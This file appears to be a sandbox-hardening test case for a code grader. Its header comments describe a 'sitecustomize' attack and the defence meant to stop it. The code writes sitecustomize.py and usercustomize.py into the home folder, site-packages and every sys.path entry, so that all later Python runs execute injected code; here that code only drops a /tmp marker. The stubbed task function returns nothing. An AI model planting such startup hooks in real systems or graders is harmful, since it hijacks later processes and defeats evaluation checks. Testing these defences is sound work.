# sitecustomize.py is written to home, folder and site-packages, for every Python that starts later.
# attack: sitecustomize
# defence: packages are read-only, home is the worker's own folder, and Python starts with -s and -P
# loses: everything
# says: returned nothing

# %% task: launch_config
import os
import site
import sys

for folder in dict.fromkeys([os.getcwd(), os.path.expanduser("~"), site.getusersitepackages(), *sys.path, sys.prefix]):
    for name in ("sitecustomize.py", "usercustomize.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "x") as file:
                file.write("open('/tmp/hostile-was-here', 'w')\n")
        except OSError:
            continue


def launch_config(n, h_out, w_out, k):
    return None
